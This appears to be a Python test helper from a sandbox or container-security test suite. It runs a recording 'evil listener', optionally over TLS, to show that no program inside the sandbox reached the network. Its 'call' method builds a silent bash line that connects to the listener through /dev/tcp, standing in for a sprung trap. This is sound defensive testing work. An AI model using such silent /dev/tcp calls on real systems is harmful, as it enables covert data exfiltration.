"""A listener that records every byte that arrives, to prove that none did.

At the engine bridge's own address (`ServiceBox.gateway`) this host and every container on the bridge can reach it: an
attack that starts a program in a container is seen as well as one on the host. With a certificate it speaks TLS, and
records what was said inside too.
"""

from __future__ import annotations

import contextlib
import queue
import socket
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

__all__ = ["EvilListener", "Visit", "evil_listener"]

_CHUNK_BYTES = 65536
_LAST = b"the last visit, by the test itself"
_SILENCE_SECONDS = 5.0  # a visitor that says nothing more is let go


@dataclass
class Visit:
    """One connection: every byte as it arrived, and what TLS made of them. Neither needs to hold anything."""

    peer: str
    raw: bytearray = field(default_factory=bytearray)
    decrypted: bytearray = field(default_factory=bytearray)


@dataclass
class EvilListener:
    """A running listener. `visits` grows with every connection, from the moment that it is accepted."""

    ip: str
    port: int
    visits: list[Visit] = field(default_factory=list)
    over: queue.Queue[Visit] = field(default_factory=queue.Queue)

    @property
    def host(self) -> str:
        """Address and port as URLs have them."""
        return f"{self.ip}:{self.port}"

    @property
    def received(self) -> bytes:
        """Everything that arrived."""
        return b"".join(bytes(visit.raw) for visit in self.visits)

    def wait_for_a_visit(self, seconds: float = 30) -> Visit:
        """The first visit that nobody has waited for yet, when it is over."""
        return self.over.get(timeout=seconds)

    def call(self, word: str) -> str:
        """Shell text (for bash) that comes here and says `word`, silently: what a trap does when it is sprung."""
        return f"exec 2>/dev/null; echo {word} >/dev/tcp/{self.ip}/{self.port}"

    def assert_untouched(self) -> None:
        """Nobody has come. A visit of our own goes last, so whoever connected before has been recorded by then."""
        with socket.create_connection((self.ip, self.port), timeout=10) as own:
            own.sendall(_LAST)
        found: list[bytes] = []
        while _LAST not in found:
            found.append(bytes(self.wait_for_a_visit().raw))
        assert found == [_LAST], found


@contextmanager
def evil_listener(ip: str, server_file: Path | None = None) -> Iterator[EvilListener]:
    """A listener at this address of the host, while the block runs."""
    context = None
    if server_file is not None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(server_file)
    with socket.create_server((ip, 0)) as server:
        address = server.getsockname()
        running = EvilListener(str(address[0]), int(address[1]))
        thread = threading.Thread(target=_accept, args=(server, running, context), daemon=True)
        thread.start()
        try:
            yield running
        finally:
            server.shutdown(socket.SHUT_RDWR)  # wakes the thread that waits in accept
            thread.join()


def _accept(server: socket.socket, running: EvilListener, context: ssl.SSLContext | None) -> None:
    while True:
        try:
            connection, peer = server.accept()
        except OSError:
            return
        visit = Visit(peer=str(peer[0]))
        running.visits.append(visit)
        # One after the other: a second visitor waits in the queue of the socket, and is not lost.
        with connection, contextlib.suppress(OSError):
            connection.settimeout(_SILENCE_SECONDS)
            _record(connection, visit, context)
        running.over.put(visit)


def _record(connection: socket.socket, visit: Visit, context: ssl.SSLContext | None) -> None:
    """Bytes are noted before TLS looks at them, so that a handshake that fails leaves its bytes as well."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    secure = None if context is None else context.wrap_bio(incoming, outgoing, server_side=True)
    while data := connection.recv(_CHUNK_BYTES):
        visit.raw += data
        if secure is not None:
            incoming.write(data)
            with contextlib.suppress(ssl.SSLError):
                secure.do_handshake()
                visit.decrypted += secure.read(_CHUNK_BYTES)
            connection.sendall(outgoing.read())
